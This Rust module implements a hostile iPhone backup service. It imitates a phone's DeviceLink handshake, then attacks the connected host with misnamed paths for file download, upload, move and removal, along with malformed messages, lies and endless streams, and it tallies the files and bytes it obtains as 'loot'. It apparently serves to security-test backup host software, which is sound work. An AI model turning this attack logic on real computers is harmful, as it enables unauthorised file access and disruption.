//! A hostile backup service: it greets as a phone does, hears the request, and attacks.

use std::io;
use std::time::Duration;

use plist::{Dictionary, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::timeout;

use super::lies::Endless;
use super::paths::{PathUse, batch_of_one};
use super::script::ATTACK_MAX;
use super::transfer::frame;
use super::{Attack, Loot, Place};
use crate::identity::Identity;
use crate::wire::BoxIo;

/// The longest message it reads from a host, in bytes.
const MESSAGE_BYTES_MAX: u32 = 64 << 20;
/// How long it waits for an answer.
const ANSWER_MAX: Duration = Duration::from_secs(20);
const ENDLESS_MAX: u64 = 100_000;

/// Plays the attack over one connection, never longer than [`ATTACK_MAX`]; whoever drops the
/// connection has counted the loot before the host sees it end.
pub(crate) async fn play(stream: BoxIo, identity: &Identity, attack: Attack) -> (Loot, BoxIo) {
    let mut host = Host {
        stream,
        loot: Loot::default(),
    };
    match timeout(ATTACK_MAX, host.play(identity, attack)).await {
        Ok(Ok(())) => tracing::debug!(%attack, "the host heard the attack to its end"),
        Ok(Err(error)) => tracing::debug!(%attack, %error, "the host left"),
        Err(_) => tracing::debug!(%attack, "the attack took too long"),
    }
    (host.loot, host.stream)
}

struct Host {
    stream: BoxIo,
    loot: Loot,
}

impl Host {
    async fn play(&mut self, identity: &Identity, attack: Attack) -> io::Result<()> {
        self.greet(identity).await?;
        let udid = identity.udid.as_str();
        match attack {
            Attack::Path(usage, spelling) => {
                self.misname(usage, &spelling.write(udid), udid).await?
            }
            Attack::Message(Place::DeviceLink, wrong) => {
                return self.act(wrong.script(Place::DeviceLink)).await;
            }
            Attack::Batch(batch) => return self.act(batch.script(udid)).await,
            Attack::Lie(lie) => {
                self.say(&lie.bytes()).await?;
                self.answer().await?;
            }
            Attack::Endless(endless) => self.go_on(endless, udid).await?,
            Attack::Message(..) | Attack::NoticeFlood | Attack::Afc(_) | Attack::Tls(_) => {}
        }
        self.claim_success().await
    }

    async fn act(&mut self, script: super::script::Script) -> io::Result<()> {
        script.act(&mut self.stream).await;
        Ok(())
    }

    /// Speaks as a phone does until the host has asked for something.
    async fn greet(&mut self, identity: &Identity) -> io::Result<()> {
        let major: i64 = if identity.ios.major >= 14 { 400 } else { 300 };
        let version = vec!["DLMessageVersionExchange".into(), major.into(), 0.into()];
        self.say(&frame(version)).await?;
        self.receive().await?;
        self.say(&frame(vec!["DLMessageDeviceReady".into()]))
            .await?;
        self.receive().await?;
        let mut hello = Dictionary::new();
        hello.insert("ErrorCode".into(), 0.into());
        hello.insert("MessageName".into(), "Response".into());
        hello.insert("ProtocolVersion".into(), Value::Real(2.1));
        self.say(&frame(vec!["DLMessageProcessMessage".into(), hello.into()]))
            .await?;
        self.receive().await?;
        Ok(())
    }

    /// Does something at a path that is not the phone's, and counts what it gets.
    async fn misname(&mut self, usage: PathUse, path: &str, udid: &str) -> io::Result<()> {
        self.say(&frame(usage.message(path, udid))).await?;
        match usage {
            PathUse::Download => {
                self.take_files().await?;
            }
            PathUse::Upload => self.say(&batch_of_one(path)).await?,
            PathUse::Contents
            | PathUse::Create
            | PathUse::MoveFrom
            | PathUse::MoveTo
            | PathUse::Remove
            | PathUse::CopyFrom
            | PathUse::CopyTo => {}
        }
        let answer = self.answer().await?;
        if answer.first().and_then(Value::as_string) != Some("DLMessageStatusResponse") {
            return Ok(());
        }
        if answer.get(1).and_then(Value::as_signed_integer) == Some(0) {
            self.loot.granted += 1;
            let listing = answer.get(3).and_then(Value::as_dictionary);
            self.loot.names += listing.map_or(0, Dictionary::len) as u64;
        }
        Ok(())
    }

    /// Reads the files of a download and counts their bytes.
    async fn take_files(&mut self) -> io::Result<()> {
        let mut buffer = vec![0; 32 << 10];
        loop {
            let len = self.number().await?;
            if len == 0 {
                return Ok(());
            }
            self.skip(len, &mut buffer).await?;
            loop {
                let len = self.number().await?;
                let code = timeout(ANSWER_MAX, self.stream.read_u8()).await??;
                let data = len.saturating_sub(1);
                self.skip(data, &mut buffer).await?;
                if code != 0x0c {
                    break;
                }
                self.loot.bytes += u64::from(data);
            }
        }
    }

    async fn number(&mut self) -> io::Result<u32> {
        timeout(ANSWER_MAX, self.stream.read_u32()).await?
    }

    async fn skip(&mut self, len: u32, buffer: &mut [u8]) -> io::Result<()> {
        let mut left = len as usize;
        while left > 0 {
            let n = left.min(buffer.len());
            let Some(part) = buffer.get_mut(..n) else {
                return Ok(());
            };
            timeout(ANSWER_MAX, self.stream.read_exact(part)).await??;
            left -= n;
        }
        Ok(())
    }

    async fn go_on(&mut self, endless: Endless, udid: &str) -> io::Result<()> {
        let mut buffer = vec![0; 32 << 10];
        for at in 0..ENDLESS_MAX {
            self.say(&endless.bytes(udid, at)).await?;
            if endless == Endless::Downloads {
                self.take_files().await?;
            }
            let len = self.number().await?;
            self.skip(len, &mut buffer).await?;
        }
        Ok(())
    }

    async fn claim_success(&mut self) -> io::Result<()> {
        let mut done = Dictionary::new();
        done.insert("ErrorCode".into(), 0.into());
        done.insert("MessageName".into(), "Response".into());
        self.say(&frame(vec!["DLMessageProcessMessage".into(), done.into()]))
            .await?;
        self.receive().await?;
        Ok(())
    }

    async fn say(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.stream.write_all(bytes).await?;
        self.stream.flush().await
    }

    async fn answer(&mut self) -> io::Result<Vec<Value>> {
        timeout(ANSWER_MAX, self.receive()).await?
    }

    async fn receive(&mut self) -> io::Result<Vec<Value>> {
        let len = self.stream.read_u32().await?;
        if len > MESSAGE_BYTES_MAX {
            return Err(io::Error::new(
                io::ErrorKind::InvalidData,
                "the host sends a giant message",
            ));
        }
        let mut bytes = vec![0; len as usize];
        self.stream.read_exact(&mut bytes).await?;
        let value = Value::from_reader(io::Cursor::new(bytes)).map_err(io::Error::other)?;
        Ok(value.into_array().unwrap_or_default())
    }
}
